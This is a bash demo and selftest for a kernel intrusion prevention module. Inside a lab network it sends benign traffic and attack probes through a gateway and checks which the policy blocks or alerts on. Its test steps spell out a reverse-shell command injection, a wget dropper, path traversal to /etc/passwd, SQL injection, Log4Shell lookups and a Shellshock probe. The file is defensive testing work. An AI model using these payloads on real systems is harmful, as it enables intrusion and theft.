#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# `make demo`: runs in the QEMU test guest (selftests/kernel/run.sh --script),
# with nfips.ko loaded. Builds the client -- gateway -- server topology of
# the selftests, serves a small web site with nginx in the server, applies
# the shipped default policy (policies/default.rules) in the gateway in
# enforce mode, then sends benign traffic and attacks from the client with
# curl, nmap and socat, and shows for each what the client got, whether the
# server saw it, and what nfips did (its events and per-rule counters).
#
# Every step states what should happen; the demo checks it from both ends
# (a blocked request fails at the client and never reaches the server, a
# benign one succeeds) and exits non-zero if anything differs.
set -u
source "$(dirname "$0")/../lib.sh"

require_guest
require_nfipsctl
for c in ip ss curl nginx nmap socat sha256sum modprobe; do
	command -v "$c" >/dev/null || fail "$c not installed: run selftests/deps.sh"
done

readonly policy=$repo/policies/default.rules
readonly classes=$repo/policies/classification.config
# The customer's network is the server side; everything else is outside.
readonly home_net="[10.0.2.0/24,fd6e:6669:7073:2::/64]"
readonly max_time=3

tmp=$(mktemp -d)
chmod 755 "$tmp"
on_exit "rm -rf '$tmp'"
steps=0 unexpected=0

say() { printf '%s\n' "$*"; }
title() { printf '\n== %s ==\n\n' "$*"; }

# ---- the network and the server ------------------------------------------

setup_web_server() {
	local www=$tmp/www

	mkdir -p "$www/docs" "$www/uid" "$www/body"
	cat >"$www/index.html" <<-'EOF'
		<!DOCTYPE html>
		<html><head><title>nfips demo shop</title></head>
		<body><h1>Welcome</h1><a href="docs/guide.html">Guide</a></body></html>
	EOF
	echo '<html><body><p>How to order. See ../index.html</p></body></html>' \
		>"$www/docs/guide.html"
	# testmynids.org's check: a page that looks like `id` run as root.
	echo 'uid=0(root) gid=0(root) groups=0(root)' >"$www/uid/index.html"
	# The EICAR anti-virus test file (www.eicar.org), harmless by design.
	printf '%s\n' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
		>"$www/eicar.com"
	head -c $((2 * 1024 * 1024)) /dev/urandom >"$www/firmware.bin"
	chmod -R a+rX "$www"

	cat >"$tmp/nginx.conf" <<-EOF
		user nobody nogroup;
		worker_processes 1;
		pid $tmp/nginx.pid;
		error_log $tmp/nginx-error.log;
		events { worker_connections 64; }
		http {
			default_type application/octet-stream;
			types { text/html html; text/plain txt; }
			access_log $tmp/access.log;
			client_body_temp_path $www/body;
			proxy_temp_path $tmp/proxy;
			fastcgi_temp_path $tmp/fastcgi;
			uwsgi_temp_path $tmp/uwsgi;
			scgi_temp_path $tmp/scgi;
			server {
				listen 80;
				listen [::]:80;
				server_name shop.example;
				root $www;
				# Every form posts here; static files answer 405 otherwise.
				location = /ping { return 200 "pong\n"; }
				location = /search { return 200 "no results\n"; }
				location = /item { return 200 "item\n"; }
			}
		}
	EOF
	: >"$tmp/access.log"
	ip netns exec "$server" nginx -c "$tmp/nginx.conf" || fail "nginx did not start"
	wait_local_port_listen "$server" 80 tcp || fail "nginx is not listening"
	on_exit "ip netns exec '$server' nginx -c '$tmp/nginx.conf' -s stop"

	# A syslog collector: UDP datagrams to port 514 end up in a file.
	: >"$tmp/syslog"
	ip netns exec "$server" socat -u UDP4-RECV:514 "OPEN:$tmp/syslog,append" &
	wait_local_port_listen "$server" 514 udp || fail "syslog collector"
}

apply_policy() {
	local out

	# A slow-path rule's packets go to NFQUEUE: with the queue module
	# loaded and no daemon listening, fail-open (the default) passes them.
	modprobe nfnetlink_queue 2>/dev/null
	out=$(gwctl policy apply --approve-all --classification "$classes" \
		--var "HOME_NET=$home_net" "$policy" 2>&1) || fail "policy apply: $out"
	gwctl mode enforce >/dev/null || fail "mode enforce"
	say "\$ nfipsctl policy apply --approve-all --classification policies/classification.config \\"
	say "      --var HOME_NET=$home_net policies/default.rules"
	say "$out" | sed 's/^/  /'
	say "\$ nfipsctl mode enforce"
	say "\$ nfipsctl status"
	gwctl status | grep -E '^(policy serial|inspection|mode|hooks|fail|rules|automaton states|memory):' |
		sed 's/^/  /'
}

start_events() {
	ip netns exec "$gateway" "$nfipsctl" events --timeout 900 \
		>"$tmp/events" 2>"$tmp/events.err" &
	events_pid=$!
	on_exit "kill $events_pid"
	busywait 5000 grep -q '^# listening' "$tmp/events.err" ||
		fail "nfipsctl events did not start: $(cat "$tmp/events.err")"
}

# ---- one step: send, then look at both ends and at nfips ------------------

# rule_hits FILE: nfipsctl stats now into FILE ("gid:sid:rev action hits msg").
rule_hits() {
	gwctl stats >"$1" || fail "nfipsctl stats"
}

# hits_diff OLD NEW: "action sid xN" for each rule whose hit counter grew.
hits_diff() {
	awk 'NR == FNR { if (FNR > 1) old[$1] = $3; next }
		FNR > 1 && $3 > old[$1] { split($1, id, ":")
			printf "%s%s %s x%d", sep, $2, id[2], $3 - old[$1]; sep = ", " }' "$1" "$2"
}

# new_events FROM: "action sid" of each event after line FROM, plus
# " blocked" when it was, e.g. "reject 9000101 blocked".
new_events() {
	tail -n +"$(($1 + 1))" "$tmp/events" | awk '
		{ for (i = 1; i <= NF; i++) { split($i, kv, "="); f[kv[1]] = kv[2] }
		  print f["action"] " " f["sid"] (f["blocked"] == 1 ? " blocked" : "") }' | sort -u
}

# step EXPECT SID TITLE -- CMD...: run CMD in the client and judge it.
#   EXPECT allowed  the client succeeds and no kernel rule acts on it (its
#                   flow may go to the daemon's queue: the daemon decides)
#          blocked  the client fails and rule SID blocked it (an event)
#          alerted  the client succeeds and rule SID alerted (an event)
#          queued   the client succeeds and its flow, which rule SID (a
#                   daemon rule) can concern, was chosen for the daemon
#                   (no daemon here: fail-open, counted as daemon_absent)
# CMD's exit status is the client's view; for UDP (no answer to wait for)
# the server's log says whether the datagram arrived.
step() {
	local expect=$1 sid=$2 what=$3 ev0 acc0 log0 abs0 rc seen evs hits got verdict ok=1

	shift 4
	steps=$((steps + 1))
	ev0=$(wc -l <"$tmp/events")
	acc0=$(wc -l <"$tmp/access.log")
	log0=$(wc -l <"$tmp/syslog")
	abs0=$(gw_counter daemon_absent)

	case $1 in
	web)	# curl as a client runs it, printing "HTTP 200, N bytes"
		ip netns exec "$client" curl -sS -o /dev/null --max-time "$max_time" \
			-w 'HTTP %{http_code}, %{size_download} bytes\n' "${@:2}" ;;
	udp)	# udp TEXT HOST PORT: one datagram
		ip netns exec "$client" socat -u - "UDP4-SENDTO:$3:$4" <<<"$2" ;;
	*)	ip netns exec "$client" "$@" ;;
	esac >"$tmp/out" 2>"$tmp/err"
	rc=$?
	# A client that gave up leaves its socket retransmitting what was
	# dropped (and the server its answer): end both, so that the next
	# step's counters are its own. Events need a moment anyway.
	ip netns exec "$client" ss -K -t 'dport = :80' >/dev/null 2>&1
	ip netns exec "$server" ss -K -t 'sport = :80' >/dev/null 2>&1
	sleep 0.2
	rule_hits "$tmp/stats.new"
	hits=$(hits_diff "$tmp/stats.old" "$tmp/stats.new")
	mv "$tmp/stats.new" "$tmp/stats.old"
	evs=$(new_events "$ev0")

	case $1 in
	udp)
		got="datagram sent"
		if busywait 1000 grew "$tmp/syslog" "$log0"; then
			seen="received it"
		else
			seen="never received it" rc=1
		fi
		;;
	nmap)
		got=$(awk '/^[0-9]+\/tcp/ { printf "%s%s %s", sep, $1, $2; sep = ", " }' "$tmp/out")
		seen="$(($(wc -l <"$tmp/access.log") - acc0)) HTTP requests"
		;;
	*)
		if [ "$rc" = 0 ]; then
			got=$(head -n 1 "$tmp/out")
		else
			got="FAILED: $(grep -m 1 '^curl:' "$tmp/err" || echo "exit $rc")"
		fi
		if [ "$(wc -l <"$tmp/access.log")" -gt "$acc0" ]; then
			seen="saw the request"
		else
			seen="never saw the request"
		fi
		;;
	esac

	case $expect in
	allowed) [ "$rc" = 0 ] && [ -z "$evs" ] || ok=0 ;;
	blocked) [ "$rc" != 0 ] && grep -q " $sid blocked$" <<<"$evs" || ok=0 ;;
	alerted) [ "$rc" = 0 ] && grep -qx "[a-z]* $sid" <<<"$evs" || ok=0 ;;
	queued) [ "$rc" = 0 ] && [ "$(gw_counter daemon_absent)" -gt "$abs0" ] || ok=0
		hits+=" (flow for the daemon: $(($(gw_counter daemon_absent) - abs0)) packets passed, no daemon)" ;;
	esac
	# A drop rule that hit without blocking: learn mode.
	grep -qE '^(drop|reject) [0-9]+$' <<<"$evs" && hits+=" (learn mode: not blocked)"
	if [ "$ok" = 1 ]; then
		verdict="$(echo "$expect" | tr a-z A-Z), as expected"
	else
		verdict="UNEXPECTED (expected: $expect)"
		unexpected=$((unexpected + 1))
	fi
	printf '%2d. %s\n    $ %s\n    client: %s | server: %s\n    nfips: %s  =>  %s\n' \
		"$steps" "$what" "$(shown_cmd "$@")" "$got" "$seen" "${hits:-no rule hit}" "$verdict"
}

# grew FILE LINES: FILE has more than LINES lines now.
grew() {
	[ "$(wc -l <"$1")" -gt "$2" ]
}

# shown_cmd CMD...: the command as a reader would type it ("web" is curl).
shown_cmd() {
	local a out=''

	if [ "$1" = udp ]; then
		echo "echo '$2' | socat -u - UDP4-SENDTO:$3:$4"
		return
	fi
	for a; do
		[ -z "$out" ] && [ "$a" = web ] && a=curl
		[[ $a == *[[:space:]\'\$\;\|\&\(\)\{\}\<\>]* ]] && a="'$a'"
		out+="${out:+ }$a"
	done
	echo "$out"
}

# ---- the story ------------------------------------------------------------

main() {
	local s=http://$server4 s6="http://[$server6]" sum

	say "nfips demo: client $client4 -- gateway (nfips.ko) -- server $server4 (nginx)"
	setup_topology
	setup_web_server
	title "The shipped default policy, enforce mode, in the gateway"
	apply_policy
	start_events
	rule_hits "$tmp/stats.old"

	title "Benign traffic: must pass untouched"
	step allowed - "home page" -- web "$s/"
	step allowed - "a page linking to ../index.html" -- web "$s/docs/guide.html"
	step allowed - "home page over IPv6" -- web -g "$s6/"
	step allowed - "search form" -- web "$s/search?q=union+station+opening+hours"
	step allowed - "syslog datagram" -- \
		udp '<14>web1 app: user alice logged in' "$server4" 514
	sum=$(sha256sum <"$tmp/www/firmware.bin" | cut -d' ' -f1)
	ip netns exec "$client" curl -sS --max-time 30 -o "$tmp/firmware.got" "$s/firmware.bin"
	if [ "$(sha256sum <"$tmp/firmware.got" 2>/dev/null | cut -d' ' -f1)" = "$sum" ]; then
		say "    2 MiB download (curl $s/firmware.bin): byte-exact through the inspecting gateway"
	else
		say "    2 MiB download (curl $s/firmware.bin): UNEXPECTED: corrupt or incomplete"
		unexpected=$((unexpected + 1))
	fi

	title "Attacks the kernel blocks (drop, or reject with a TCP reset)"
	step blocked 9000101 "path traversal to /etc/passwd (reject)" -- \
		web --path-as-is "$s/../../etc/passwd"
	step blocked 9000102 "URL-encoded path traversal (reject)" -- \
		web "$s/download?file=..%2F..%2Fetc%2Fshadow"
	step blocked 9000201 "command injection: reverse shell (reject)" -- \
		web --data 'host=127.0.0.1;bash -i >& /dev/tcp/10.0.1.2/4444 0>&1' "$s/ping"
	step blocked 9000202 "command injection: wget dropper (drop)" -- \
		web "$s/ping?host=127.0.0.1%3Bwget%20http://198.51.100.7/x.sh"
	step blocked 9000301 "SQL injection: UNION SELECT (drop)" -- \
		web "$s/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users"
	step blocked 9000305 "SQL injection: xp_cmdshell (drop)" -- \
		web "$s/item?id=1;EXEC%20master..xp_cmdshell%20%27dir%27"
	step blocked 9000401 "Log4Shell in the User-Agent (drop)" -- \
		web -A '${jndi:ldap://198.51.100.7:1389/Exploit}' "$s/"
	step blocked 9000401 "Log4Shell over IPv6 (drop)" -- \
		web -g -H 'X-Api-Version: ${jndi:ldap://198.51.100.7/a}' "$s6/"
	step blocked 9000402 "Log4Shell in a syslog datagram (drop)" -- \
		udp '<14>web1 app: login ${jndi:ldap://198.51.100.7/a}' "$server4" 514
	step blocked 9000501 "Shellshock probe (drop)" -- \
		web -A '() { :; }; echo; /bin/cat /etc/passwd' "$s/cgi-bin/status"
	step blocked 9000702 "EICAR test file download: the response is dropped" -- \
		web "$s/eicar.com"

	title "Suspicious traffic the kernel lets through and alerts on"
	step alerted 9000701 "testmynids-style check: a response showing uid=0(root)" -- \
		web "$s/uid/index.html"
	step alerted 9000602 "sqlmap fingerprinting the site" -- \
		web -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$s/item?id=1"
	step alerted 9000306 "SQL injection recon: information_schema" -- \
		web "$s/search?q=table_name%20from%20information_schema.tables"
	step alerted 9000601 "nmap service scan with NSE scripts" -- \
		nmap -n -Pn -sT -p 22,80 --script http-title "$server4"
	sed -n 's/^\(PORT\|[0-9]*\/tcp\||_http-title\)/      nmap: \1/p' "$tmp/out"

	title "Rules that need the daemon: the kernel queues their flows"
	step queued 9000303 "SQL injection: UNION ALL SELECT with comments" -- \
		web "$s/item?id=1/**/UNION/**/ALL/**/SELECT/**/NULL"
	step queued 9000404 "Log4Shell, obfuscated lookup" -- \
		web -H 'X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.7/a}' "$s/"
	say "    (nfipsd, the daemon that evaluates these rules in full, is not part"
	say "    of this demo yet: with fail-open, the default, their flows pass.)"

	title "Learn mode: nothing is blocked, everything alerts"
	gwctl mode learn >/dev/null || fail "mode learn"
	say "\$ nfipsctl mode learn"
	step alerted 9000401 "the same Log4Shell request, in learn mode" -- \
		web -A '${jndi:ldap://198.51.100.7:1389/Exploit}' "$s/"
	gwctl mode enforce >/dev/null

	report
}

# ---- what nfips recorded ----------------------------------------------------

report() {
	local msgs

	gwctl stats >"$tmp/stats" || fail "nfipsctl stats"
	# "gid:sid:rev action hits msg..." -> sid -> msg
	msgs=$tmp/msgs
	awk 'NR > 1 { split($1, id, ":"); $1 = $2 = $3 = ""; sub(/^ +/, "");
		print id[2] "\t" $0 }' "$tmp/stats" >"$msgs"

	title "What nfips blocked (kernel events, blocked=1)"
	events_table 1
	title "What nfips alerted on (kernel events, blocked=0)"
	events_table 0
	title "Counters (nfipsctl stats)"
	head -n 1 "$tmp/stats" | tr ' ' '\n' | awk -F= '{ printf "  %-12s %s\n", $1, $2 }'
	say ""
	say "  rule          action  hits  message"
	awk 'NR > 1 && $3 > 0 { m = $0; sub(/^[^ ]+ [^ ]+ [^ ]+ /, "", m);
		printf "  %-13s %-7s %4d  %s\n", $1, $2, $3, m }' "$tmp/stats"
	say "  ($(awk 'NR > 1 && $3 == 0' "$tmp/stats" | wc -l) more rules without hits)"

	title "Result"
	say "$((steps - unexpected + 1)) of $((steps + 1)) outcomes as expected (the download included)."
	[ "$unexpected" = 0 ] || say "$unexpected UNEXPECTED: see above."
	[ "$unexpected" = 0 ]
}

# events_table BLOCKED: the events with blocked=BLOCKED, one line per rule
# and flow; packets counts retransmissions of what was dropped.
events_table() {
	awk -v want="$1" -v msgs="$tmp/msgs" '
		BEGIN { FS = "\t"; while ((getline l < msgs) > 0) { split(l, p, "\t"); msg[p[1]] = p[2] }
			FS = " " }
		{ delete f
		  for (i = 1; i <= NF; i++) { split($i, kv, "="); f[kv[1]] = kv[2] }
		  if (f["blocked"] != want) next
		  proto = f["proto"] == 6 ? "tcp" : f["proto"] == 17 ? "udp" : f["proto"]
		  k = sprintf("%-6s %-8s %s %s:%s -> %s:%s", f["action"], f["sid"], proto,
			      f["src"], f["sport"], f["dst"], f["dport"])
		  if (!(k in n)) { order[++m] = k; sid[k] = f["sid"]
			# A drop rule that did not block: learn mode.
			note[k] = f["action"] != "alert" && !want ? "  [learn mode: not blocked]" : "" }
		  n[k]++ }
		END { if (!m) { print "  (none)"; exit }
		      for (i = 1; i <= m; i++)
			printf "  %s  %d pkt  %s%s\n", order[i], n[order[i]], msg[sid[order[i]]],
				note[order[i]] }' \
		"$tmp/events"
}

main
